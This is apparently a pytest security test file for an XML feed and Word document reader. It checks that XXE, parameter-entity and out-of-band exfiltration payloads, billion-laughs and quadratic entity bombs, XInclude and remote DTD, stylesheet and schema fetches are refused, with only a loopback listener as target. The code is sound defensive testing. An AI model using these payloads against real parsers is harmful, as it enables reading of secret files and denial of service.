"""THREATS row 8: entities, document types and inclusions in feeds, sitemaps and Word documents: refused or inert."""

import io
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from communique.read import read_any

SECRET = "the launch code is 0000"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A server on loopback that notes every connection."""
    calls: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            calls.append(b"called")
            connection.close()

    threading.Thread(target=listen, daemon=True).start()
    yield server.getsockname()[1], calls
    server.close()


def rss(words: str, *, before: str = "", declaration: str = '<?xml version="1.0"?>') -> str:
    return (
        f"{declaration}{before}<rss version='2.0'><channel><title>News</title><item><title>Talks</title>"
        f"<link>https://paper.example/a</link><content>{words}</content></item></channel></rss>"
    )


def bomb(depth: int, *, times: int = 10) -> str:
    rows = ['<!ENTITY e0 "ministers met ">']
    rows += [f'<!ENTITY e{level} "{f"&e{level - 1};" * times}">' for level in range(1, depth + 1)]
    return f"<!DOCTYPE rss [{''.join(rows)}]>"


def attacks(secret: Path, port: int) -> dict[str, bytes]:
    file, net = secret.as_uri(), f"http://127.0.0.1:{port}/x"
    texts = {
        "external entity": rss("&x;", before=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>'),
        "external entity by net": rss("&x;", before=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{net}">]>'),
        "public entity": rss("&x;", before=f'<!DOCTYPE rss [<!ENTITY x PUBLIC "a" "{file}">]>'),
        "parameter entity": rss("a", before=f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{net}"> %x;]>'),
        "parameter entity of a file": rss("a", before=f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{file}"> %x;]>'),
        "external document type": rss("a", before=f'<!DOCTYPE rss SYSTEM "{net}">'),
        "public document type": rss("a", before=f'<!DOCTYPE rss PUBLIC "-//a//b" "{net}">'),
        "out of band": rss(
            "&y;",
            before=f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{file}">'
            f"<!ENTITY % z \"<!ENTITY y SYSTEM '{net}?%x;'>\"> %z;]>",
        ),
        "billion laughs": rss("&e9;", before=bomb(9)),
        "quadratic": rss("&e1;" * 5000, before=bomb(1, times=5000)),
        "deep entities": rss("&e200;", before=bomb(200, times=1)),
        "entity of itself": rss("&a;", before='<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
        "default attribute": rss("a", before='<!DOCTYPE rss [<!ATTLIST item x CDATA "y">]>'),
        "internal entity": rss("&a;", before='<!DOCTYPE rss [<!ENTITY a "met">]>'),
        "inclusion": rss(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>a'),
        "inclusion by net": rss(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{net}"/>a'),
        "style sheet": rss("a", before=f'<?xml-stylesheet type="text/xsl" href="{net}"?>'),
        "schema": rss("a").replace(
            "<rss ", f'<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {net}" '
        ),
        "nested deep": rss("<b>" * 200_000 + "a"),
        "many attributes": rss("<b " + " ".join(f'a{n}="1"' for n in range(100_000)) + ">a</b>"),
        "long name": rss(f"<{'a' * 5_000_000}/>a"),
        "many namespaces": rss("".join(f'<b xmlns:n{n}="u{n}"/>' for n in range(50_000)) + "a"),
    }
    data = {name: text.encode() for name, text in texts.items()}
    hidden = rss("&x;", before=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>', declaration="{}")
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-7"):
        data[f"in {encoding}"] = hidden.replace("{}", f'<?xml version="1.0" encoding="{encoding}"?>').encode(encoding)
    return data


NAMES = list(attacks(Path("/x"), 1))


def as_feed(folder: Path, data: bytes) -> Path:
    path = folder / "feed.xml"
    path.write_bytes(data)
    return path


def as_word(folder: Path, data: bytes) -> Path:
    path = folder / "a.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", data)
        archive.writestr("docProps/core.xml", data)
    return path


@pytest.mark.parametrize("wrap", [as_feed, as_word])
@pytest.mark.parametrize("name", NAMES)
def test_no_file_is_read_nothing_is_fetched_and_it_takes_no_second(
    tmp_path: Path, listener: tuple[int, list[bytes]], name: str, wrap: object
) -> None:
    assert len(NAMES) >= 20
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    port, calls = listener
    path = (as_feed if wrap is as_feed else as_word)(tmp_path, attacks(secret, port)[name])
    list(read_any(as_feed(tmp_path, rss("warm").encode())))  # the child process starts
    path = (as_feed if wrap is as_feed else as_word)(tmp_path, attacks(secret, port)[name])
    start = time.perf_counter()
    found = list(read_any(path))
    assert time.perf_counter() - start < 3  # one second on a quiet machine
    assert all(SECRET not in one.reading.document.text for one in found)
    assert all(len(one.reading.document.text) < 6_000_000 for one in found)
    assert calls == []


@pytest.mark.parametrize("before", ['<!DOCTYPE rss [<!ENTITY a "met">]>', '<!DOCTYPE rss SYSTEM "http://127.0.0.1/"> '])
def test_a_document_type_is_refused_by_name(tmp_path: Path, before: str) -> None:
    (found,) = read_any(as_feed(tmp_path, rss("&a;", before=before).encode()))
    assert found.failures[0].code == "C114"


def test_a_word_document_with_a_document_type_is_refused_by_name(tmp_path: Path) -> None:
    body = f'<?xml version="1.0"?><!DOCTYPE x><w:document xmlns:w="{WORD}"><w:p><w:t>a</w:t></w:p></w:document>'
    (found,) = read_any(as_word(tmp_path, body.encode()))
    assert found.failures[0].code == "C114"


def test_the_child_process_opens_no_connection(listener: tuple[int, list[bytes]]) -> None:
    import subprocess
    import sys

    code = (
        "import sys, socket; from communique.read.parsers.__main__ import refuse_connections; "
        f"sys.addaudithook(refuse_connections); socket.create_connection(('127.0.0.1', {listener[0]}))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert "PermissionError: a parser must not do this" in done.stderr
    assert listener[1] == []


def test_a_zip_file_in_memory_is_no_word_document() -> None:
    from communique.read.parsers.docx import facts_of_docx

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("a.txt", "a")
    assert "error" in facts_of_docx(packed.getvalue(), page_bytes=1000)
